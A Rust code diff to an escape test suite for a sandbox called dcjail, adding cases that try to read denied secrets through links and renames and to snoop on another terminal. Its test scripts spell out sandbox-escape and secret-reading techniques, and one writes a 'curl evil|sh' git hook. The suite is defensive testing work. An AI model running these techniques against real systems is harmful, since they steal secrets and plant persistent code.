@@ -33,6 +33,9 @@ struct Ctx {
     outside: PathBuf,
     private: PathBuf,
     ws_private: PathBuf,
+    /// A directory outside the workspace whose file `secret` is denied
+    /// (the file, not the directory).
+    keys: PathBuf,
     secret: String,
     tag: String,
 }
@@ -48,12 +51,24 @@ impl Ctx {
         let outside = root.join("outside");
         let private = root.join("private");
         let ws_private = ws.join("private");
-        for d in [&ws, &outside, &private, &ws_private, &ws.join(".git/hooks")] {
+        let keys = root.join("keys");
+        let home = root.join("home");
+        for d in [
+            &ws,
+            &outside,
+            &private,
+            &ws_private,
+            &keys,
+            &home,
+            &ws.join(".git/hooks"),
+        ] {
             std::fs::create_dir_all(d).unwrap();
         }
         let secret = format!("SECRET-{}-{}", std::process::id(), case.len() * 7919);
         std::fs::write(private.join("secret"), &secret).unwrap();
         std::fs::write(ws_private.join("secret"), &secret).unwrap();
+        std::fs::write(keys.join("secret"), &secret).unwrap();
+        std::fs::write(ws.join("token"), &secret).unwrap();
         std::fs::write(outside.join("existing"), "ORIGINAL").unwrap();
         std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
         std::fs::write(ws.join(".git/description"), "repo\n").unwrap();
@@ -63,23 +78,33 @@ impl Ctx {
             outside: root.join("outside"),
             private: root.join("private"),
             ws_private: root.join("ws/private"),
+            keys: root.join("keys"),
             root,
             secret,
             tag,
         }
     }
 
-    fn policy(&self, protect_defaults: bool, net: &str, deny_write: bool) -> PathBuf {
+    /// The case's policy. `in_ws`: `ws/private` and `ws/token` are denied
+    /// too (inside the writable workspace, which landlock refuses).
+    fn policy(&self, protect_defaults: bool, net: &str, deny_write: bool, in_ws: bool) -> PathBuf {
         let p = self.root.join("policy.toml");
+        let mut deny = vec![self.private.clone(), self.keys.join("secret")];
+        if in_ws {
+            deny.extend([self.ws_private.clone(), self.ws.join("token")]);
+        }
+        let deny: Vec<String> = deny
+            .iter()
+            .map(|d| format!("{:?}", d.to_str().unwrap()))
+            .collect();
         let text = format!(
             "[permission]\noutcome = \"allow\"\napproval = \"granted\"\n\
              [sandbox]\nmode = \"workspace-write\"\nworkspace = {ws:?}\n\
              [sandbox.filesystem]\nprotect_defaults = {protect_defaults}\n\
-             deny_read = [{p1:?}, {p2:?}]\n deny_write = [{dw}]\n\
+             deny_read = [{deny}]\n deny_write = [{dw}]\n\
              [sandbox.network]\nmode = \"{net}\"\n",
             ws = self.ws.to_str().unwrap(),
-            p1 = self.private.to_str().unwrap(),
-            p2 = self.ws_private.to_str().unwrap(),
+            deny = deny.join(", "),
             dw = if deny_write {
                 format!("{:?}", self.ws.join("locked").to_str().unwrap())
             } else {
@@ -132,6 +157,8 @@ struct Env {
     abstract_name: Option<String>,
     abstract_sock: Option<UnixListener>,
     outside_proc: Option<Child>,
+    /// Another session's terminal (master, slave), held by the runner.
+    other_pty: Option<(std::fs::File, std::fs::File)>,
     vars: Vec<(String, String)>,
 }
 
@@ -212,6 +239,9 @@ struct Case {
     net: &'static str,
     setup: Setup,
     script: Script,
+    /// A second run, same policy, after the first: what it can read of
+    /// what the first left behind.
+    next: Option<Script>,
     check: Check,
 }
 
@@ -315,6 +345,7 @@ fn cases() -> Vec<Case> {
             name: "by path",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| {
                 format!(
@@ -330,6 +361,7 @@ fn cases() -> Vec<Case> {
             name: "through a symlink",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| {
                 format!(
@@ -345,6 +377,7 @@ fn cases() -> Vec<Case> {
             name: "through a hard link",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| format!("ln '{}/existing' hl; echo x >> hl", c.outside.display()),
             check: outside_untouched,
@@ -354,6 +387,7 @@ fn cases() -> Vec<Case> {
             name: "rename of a parent (deny_write dir)",
             protect: false,
             net: "none",
+            next: None,
             setup: |c, _| {
                 std::fs::create_dir_all(c.ws.join("locked")).unwrap();
                 std::fs::write(c.ws.join("locked/f"), "ORIGINAL").unwrap();
@@ -366,6 +400,7 @@ fn cases() -> Vec<Case> {
             name: "via ..",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 "echo x > ../outside/escaped; echo x >> ./../outside/existing".to_string()
@@ -377,6 +412,7 @@ fn cases() -> Vec<Case> {
             name: "via /proc/self/root",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| format!("echo x > /proc/self/root'{}/escaped'", c.outside.display()),
             check: outside_untouched,
@@ -386,6 +422,7 @@ fn cases() -> Vec<Case> {
             name: "via /proc/<pid>/cwd",
             protect: false,
             net: "none",
+            next: None,
             setup: |c, e| setup_sleeper_in(&c.outside, e),
             script: |_, e| format!("echo x > /proc/{}/cwd/escaped", e.var("PID")),
             check: outside_untouched,
@@ -395,6 +432,7 @@ fn cases() -> Vec<Case> {
             name: "to /dev/shm",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| format!("echo x > /dev/shm/dcjail-escape-{}", c.tag),
             check: |c, _, _| {
@@ -410,8 +448,25 @@ fn cases() -> Vec<Case> {
             name: "by path",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
-            script: |c, _| format!("cat '{}/secret' private/secret", c.private.display()),
+            script: |c, _| {
+                format!(
+                    "cat '{}/secret' '{}/secret'",
+                    c.private.display(),
+                    c.keys.display()
+                )
+            },
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "by path (in the workspace)",
+            protect: false,
+            net: "none",
+            next: None,
+            setup: no_setup,
+            script: |_, _| "cat private/secret token".to_string(),
             check: secret_not_shown,
         },
         Case {
@@ -419,13 +474,25 @@ fn cases() -> Vec<Case> {
             name: "through a symlink",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| {
                 format!(
-                    "ln -s '{}/secret' l; cat l; ln -s private p; cat p/secret",
-                    c.private.display()
+                    "ln -s '{}/secret' l; cat l; ln -s '{}' p; cat p/secret",
+                    c.private.display(),
+                    c.keys.display()
                 )
             },
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "through a symlink (in the workspace)",
+            protect: false,
+            net: "none",
+            next: None,
+            setup: no_setup,
+            script: |_, _| "ln -s private p; cat p/secret; ln -s token t; cat t".to_string(),
             check: secret_not_shown,
         },
         Case {
@@ -433,20 +500,73 @@ fn cases() -> Vec<Case> {
             name: "through a hard link",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| {
                 format!(
-                    "ln '{}/secret' h; cat h; ln private/secret h2; cat h2",
-                    c.private.display()
+                    "ln '{}/secret' h; cat h; ln '{}/secret' h2; cat h2",
+                    c.private.display(),
+                    c.keys.display()
                 )
             },
             check: secret_not_shown,
         },
         Case {
             group: "read",
-            name: "rename of a parent",
+            name: "through a hard link (in the workspace)",
             protect: false,
             net: "none",
+            next: None,
+            setup: no_setup,
+            script: |_, _| "ln private/secret h; cat h; ln token h2; cat h2".to_string(),
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "an existing hard link beside the secret",
+            protect: false,
+            net: "none",
+            next: None,
+            setup: |c, _| {
+                std::fs::hard_link(c.keys.join("secret"), c.keys.join("alias")).unwrap();
+            },
+            script: |c, _| format!("cat '{k}/alias' '{k}/secret'", k = c.keys.display()),
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "an existing hard link in the home directory",
+            protect: false,
+            net: "none",
+            next: None,
+            setup: |c, _| {
+                std::fs::hard_link(c.keys.join("secret"), c.root.join("home/copy")).unwrap();
+            },
+            script: |_, _| "cat ~/copy".to_string(),
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "rename or link it away, read it in the next run (in the workspace)",
+            protect: false,
+            net: "none",
+            next: Some(|_, _| {
+                "cat stash stash2 p2/secret p3/secret t2 t3 private/secret token".to_string()
+            }),
+            setup: no_setup,
+            script: |_, _| {
+                "mv private/secret stash; ln private/secret stash2; mv private p2; \
+                 cp -al private p3; mv token t2; ln token t3; true"
+                    .to_string()
+            },
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "rename of a parent (in the workspace)",
+            protect: false,
+            net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| "mv private p2; cat p2/secret".to_string(),
             check: secret_not_shown,
@@ -456,6 +576,7 @@ fn cases() -> Vec<Case> {
             name: "via ..",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| "cat ../private/secret ./x/../private/secret".to_string(),
             check: secret_not_shown,
@@ -465,6 +586,7 @@ fn cases() -> Vec<Case> {
             name: "via /proc/self/root",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| format!("cat /proc/self/root'{}/secret'", c.private.display()),
             check: secret_not_shown,
@@ -474,6 +596,7 @@ fn cases() -> Vec<Case> {
             name: "via /proc/<pid>/cwd",
             protect: false,
             net: "none",
+            next: None,
             setup: |c, e| setup_sleeper_in(&c.private, e),
             script: |_, e| format!("cat /proc/{}/cwd/secret", e.var("PID")),
             check: secret_not_shown,
@@ -483,6 +606,7 @@ fn cases() -> Vec<Case> {
             name: "an inherited descriptor (fd, /proc/self/fd)",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             // The runner opens the secret as fd 5 before starting dcjail.
             script: |_, _| "cat <&5; cat /proc/self/fd/5".to_string(),
@@ -493,6 +617,7 @@ fn cases() -> Vec<Case> {
             name: "via /proc/<pid>/fd of dcjail's own descriptor",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             // dcjail (the supervisor) inherited fd 5 from the runner; the
             // command's parent is dcjail (or the launcher in the control).
@@ -505,6 +630,7 @@ fn cases() -> Vec<Case> {
             name: "TCP to a loopback listener",
             protect: false,
             net: "none",
+            next: None,
             setup: setup_tcp4,
             script: |_, e| {
                 format!("{PY} -c \"import socket; s=socket.create_connection(('127.0.0.1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT"))
@@ -516,6 +642,7 @@ fn cases() -> Vec<Case> {
             name: "TCP over IPv6 (::1)",
             protect: false,
             net: "none",
+            next: None,
             setup: setup_tcp6,
             script: |_, e| {
                 format!("{PY} -c \"import socket; s=socket.create_connection(('::1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT"))
@@ -527,6 +654,7 @@ fn cases() -> Vec<Case> {
             name: "UDP datagram",
             protect: false,
             net: "none",
+            next: None,
             setup: setup_udp,
             script: |_, e| {
                 format!("{PY} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'ESCAPE', ('127.0.0.1',{}))\"", e.var("PORT"))
@@ -538,6 +666,7 @@ fn cases() -> Vec<Case> {
             name: "DNS query (UDP)",
             protect: false,
             net: "none",
+            next: None,
             setup: setup_udp,
             script: |_, e| {
                 format!("{PY} -c \"import socket; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1',{}))\"", e.var("PORT"))
@@ -549,6 +678,7 @@ fn cases() -> Vec<Case> {
             name: "raw / ICMP socket",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 format!("{PY} -c \"import socket\nfor t,p in ((socket.SOCK_RAW, socket.IPPROTO_ICMP),(socket.SOCK_DGRAM, socket.IPPROTO_ICMP),(socket.SOCK_RAW, 255)):\n  try:\n    s=socket.socket(socket.AF_INET,t,p); s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00',('127.0.0.1',0)); print('OPENED')\n  except OSError: pass\"")
@@ -560,6 +690,7 @@ fn cases() -> Vec<Case> {
             name: "AF_UNIX socket file (docker-like)",
             protect: false,
             net: "none",
+            next: None,
             setup: |c, e| {
                 let p = c.outside.join("docker.sock");
                 e.unix = Some(UnixListener::bind(&p).unwrap());
@@ -581,6 +712,7 @@ fn cases() -> Vec<Case> {
             name: "abstract unix socket",
             protect: false,
             net: "none",
+            next: None,
             setup: |c, e| {
                 use std::os::linux::net::SocketAddrExt;
                 let name = format!("dcjail-escape-{}", c.tag);
@@ -606,6 +738,7 @@ fn cases() -> Vec<Case> {
             name: "io_uring",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 format!("{PY} -c \"import ctypes; l=ctypes.CDLL(None, use_errno=True); p=ctypes.create_string_buffer(120); fd=l.syscall(425, 4, p); print('URING' if fd >= 0 else 'no')\"")
@@ -618,6 +751,7 @@ fn cases() -> Vec<Case> {
             name: "unshare (new namespaces)",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 "unshare -U -r true && echo UNSHARED-U; unshare -n true && echo UNSHARED-N; unshare -m true && echo UNSHARED-M".to_string()
@@ -629,6 +763,7 @@ fn cases() -> Vec<Case> {
             name: "setns into another process's namespaces",
             protect: false,
             net: "none",
+            next: None,
             setup: |_, e| {
                 let ch = Command::new("unshare")
                     .args(["-n", "-m", "sleep", "60"])
@@ -648,6 +783,7 @@ fn cases() -> Vec<Case> {
             name: "ptrace a process",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 format!("sleep 5 & {PY} -c \"import ctypes,sys; l=ctypes.CDLL(None, use_errno=True); r=l.ptrace(16, $!, 0, 0); print('TRACED' if r == 0 else 'no')\"; kill -KILL $! 2>/dev/null")
@@ -659,6 +795,7 @@ fn cases() -> Vec<Case> {
             name: "signal a process outside",
             protect: false,
             net: "none",
+            next: None,
             setup: |c, e| setup_sleeper_in(&c.outside, e),
             script: |_, e| format!("kill -KILL {}", e.var("PID")),
             check: |_, e, _| {
@@ -675,6 +812,7 @@ fn cases() -> Vec<Case> {
             name: "TIOCSTI (type into the terminal)",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             // The runner gives the command a pty as stdin and reads what was queued.
             script: |_, _| {
@@ -684,9 +822,41 @@ fn cases() -> Vec<Case> {
         },
         Case {
             group: "privilege",
+            name: "another session's terminal (read what is typed, write a prompt)",
+            protect: false,
+            net: "none",
+            next: None,
+            setup: |_, e| {
+                let (mut master, slave) = open_pty();
+                let path = std::fs::read_link(format!(
+                    "/proc/self/fd/{}",
+                    std::os::fd::AsRawFd::as_raw_fd(&slave)
+                ))
+                .unwrap();
+                master.write_all(b"TYPED-PASSWORD\n").unwrap();
+                // The echo of what was typed is not the attack's.
+                let _ = read_pending(&master);
+                e.vars.push(("PTS".into(), path.display().to_string()));
+                e.other_pty = Some((master, slave));
+            },
+            script: |_, e| {
+                format!("{PY} -c \"import os\nfor f, w in ((os.O_RDONLY, 0), (os.O_WRONLY, 1)):\n  try:\n    fd = os.open('{p}', f | os.O_NOCTTY | os.O_NONBLOCK)\n    os.write(fd, b'FAKE-PROMPT') if w else print(os.read(fd, 100))\n  except OSError as x: print(x)\"", p = e.var("PTS"))
+            },
+            check: |_, e, o| {
+                out_lacks(o, "TYPED-PASSWORD")?;
+                let (master, _) = e.other_pty.as_ref().unwrap();
+                if String::from_utf8_lossy(&read_pending(master)).contains("FAKE-PROMPT") {
+                    return Err("the prompt reached the other terminal".into());
+                }
+                Ok(())
+            },
+        },
+        Case {
+            group: "privilege",
             name: "mount",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             // Only ever a tmpfs over the test's own directory, detached at once.
             script: |c, _| {
@@ -702,6 +872,7 @@ fn cases() -> Vec<Case> {
             name: "setuid-root binary run by an unprivileged user",
             protect: false,
             net: "none",
+            next: None,
             setup: |c, _| {
                 std::fs::copy("/usr/bin/id", c.outside.join("suid-id")).unwrap();
                 assert!(Command::new("chmod")
@@ -738,6 +909,7 @@ fn cases() -> Vec<Case> {
             name: ".git/hooks and .git/config",
             protect: true,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core] fsmonitor=evil' >> .git/config; echo ok > .git/description".to_string()
@@ -752,6 +924,7 @@ fn cases() -> Vec<Case> {
             name: "create missing .bashrc, .vscode, .mcp.json",
             protect: true,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 "echo evil > .bashrc; mkdir .vscode; echo {} > .vscode/settings.json; echo {} > .mcp.json; mkdir -p .claude/commands; echo x > .claude/commands/x.md".to_string()
@@ -768,6 +941,7 @@ fn cases() -> Vec<Case> {
             name: "rename .git away, write hooks",
             protect: true,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 "mv .git g2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; mv g2/hooks g2/h2; echo evil > g2/hooks/pre-commit".to_string()
@@ -787,6 +961,7 @@ fn cases() -> Vec<Case> {
             name: "hard link a protected file",
             protect: true,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| "ln .git/config cfg && echo '[x]' >> cfg".to_string(),
             check: |c, _, _| unchanged(&c.ws.join(".git/config"), "[core]\n"),
@@ -797,6 +972,7 @@ fn cases() -> Vec<Case> {
             name: "background daemon outliving dcjail",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |_, _| {
                 "setsid sh -c 'sleep 2; echo alive > daemon-marker' >/dev/null 2>&1 < /dev/null &"
@@ -812,6 +988,7 @@ fn cases() -> Vec<Case> {
             name: "fork bomb (bounded) with a timeout",
             protect: false,
             net: "none",
+            next: None,
             setup: no_setup,
             script: |c, _| {
                 format!("i=0; while [ $i -lt 60 ]; do setsid sh -c 'sleep 300; :' bomb-{} >/dev/null 2>&1 </dev/null & i=$((i+1)); done; sleep 300", c.tag)
@@ -864,7 +1041,12 @@ fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
     // The marker proves the command really ran: a sandbox that failed to
     // start would otherwise "block" every case.
     let script = format!("{}\necho DCJAIL-CASE-RAN", (case.script)(&ctx, &env));
-    let policy = ctx.policy(case.protect, case.net, case.name.contains("deny_write"));
+    let policy = ctx.policy(
+        case.protect,
+        case.net,
+        case.name.contains("deny_write"),
+        case.name.contains("in the workspace"),
+    );
     let mut args: Vec<String> = vec!["--policy".into(), policy.display().to_string()];
     if let Some(b) = backend {
         args.extend(["--backend".into(), b.to_string()]);
@@ -877,50 +1059,63 @@ fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
         "exec 5<'{}'; exec \"$@\"",
         ctx.private.join("secret").display()
     );
-    let mut cmd = Command::new("sh");
-    cmd.arg("-c").arg(outer).arg("sh");
-    if case.name.contains("unprivileged user") {
-        cmd.args([
-            "setpriv",
-            "--reuid",
-            "65534",
-            "--regid",
-            "65534",
-            "--clear-groups",
-        ]);
-    }
-    match backend {
-        Some(_) => {
-            cmd.arg(bin()).args(&args).args(["--", "sh", "-c", &script]);
+    let run = |script: &str| -> Output {
+        let mut cmd = Command::new("sh");
+        cmd.arg("-c").arg(&outer).arg("sh");
+        if case.name.contains("unprivileged user") {
+            cmd.args([
+                "setpriv",
+                "--reuid",
+                "65534",
+                "--regid",
+                "65534",
+                "--clear-groups",
+            ]);
         }
-        // The control runs the same script with no dcjail at all, under a
-        // plain timeout(1) that kills only the shell, as a careless launcher would.
-        None => {
-            cmd.args(["timeout", "-s", "KILL", "3", "sh", "-c", &script]);
+        match backend {
+            Some(_) => {
+                cmd.arg(bin()).args(&args).args(["--", "sh", "-c", script]);
+            }
+            // The control runs the same script with no dcjail at all, under a
+            // plain timeout(1) that kills only the shell, as a careless launcher would.
+            None => {
+                cmd.args(["timeout", "-s", "KILL", "3", "sh", "-c", script]);
+            }
         }
-    }
-    cmd.current_dir(&ctx.ws)
-        .env_remove("DCJAIL_POLICY")
-        .env_remove("TMPDIR");
-    let pty = if case.name.starts_with("TIOCSTI") {
-        Some(open_pty())
-    } else {
-        None
+        cmd.current_dir(&ctx.ws)
+            .env("HOME", ctx.root.join("home"))
+            .env_remove("DCJAIL_POLICY")
+            .env_remove("TMPDIR");
+        let pty = if case.name.starts_with("TIOCSTI") {
+            Some(open_pty())
+        } else {
+            None
+        };
+        match &pty {
+            Some((_, slave)) => {
+                cmd.stdin(Stdio::from(slave.try_clone().unwrap()));
+            }
+            None => {
+                cmd.stdin(Stdio::null());
+            }
+        }
+        let mut o = cmd.output().unwrap();
+        if let Some((master, slave)) = pty {
+            // Whatever TIOCSTI queued is now readable as input on the tty.
+            let mut queued = read_pending(&slave);
+            queued.extend(read_pending(&master));
+            o.stdout.extend(queued);
+        }
+        o
     };
-    match &pty {
-        Some((_, slave)) => {
-            cmd.stdin(Stdio::from(slave.try_clone().unwrap()));
+    let mut o = run(&script);
+    if let Some(next) = case.next {
+        // The second run, same policy, reads what the first left behind;
+        // both must have run to their end.
+        let ran = String::from_utf8_lossy(&o.stdout).contains("DCJAIL-CASE-RAN");
+        if ran || backend.is_none() {
+            o = run(&format!("{}\necho DCJAIL-CASE-RAN", next(&ctx, &env)));
         }
-        None => {
-            cmd.stdin(Stdio::null());
-        }
-    }
-    let mut o = cmd.output().unwrap();
-    if let Some((master, slave)) = pty {
-        // Whatever TIOCSTI queued is now readable as input on the tty.
-        let mut queued = read_pending(&slave);
-        queued.extend(read_pending(&master));
-        o.stdout.extend(queued);
     }
     let err = String::from_utf8_lossy(&o.stderr);
     if backend.is_some()
@@ -1034,9 +1229,11 @@ fn no_case_escapes_any_backend_and_every_case_escapes_without_one() {
                 }
             };
             // Refusing everything would pass trivially: landlock must enforce
-            // every case it can express (all but write subtraction inside a
-            // writable root, which needs bwrap's mounts).
-            let landlock_must_run = case.group != "protected" && !case.name.contains("deny_write");
+            // every case it can express (all but write subtraction and
+            // deny_read inside a writable root, which need bwrap's mounts).
+            let landlock_must_run = case.group != "protected"
+                && !case.name.contains("deny_write")
+                && !case.name.contains("in the workspace");
             if *b == "landlock" && landlock_must_run && out == Outcome::Refused {
                 failures.push(format!(
                     "{} / {} under landlock: refused a case it can enforce",
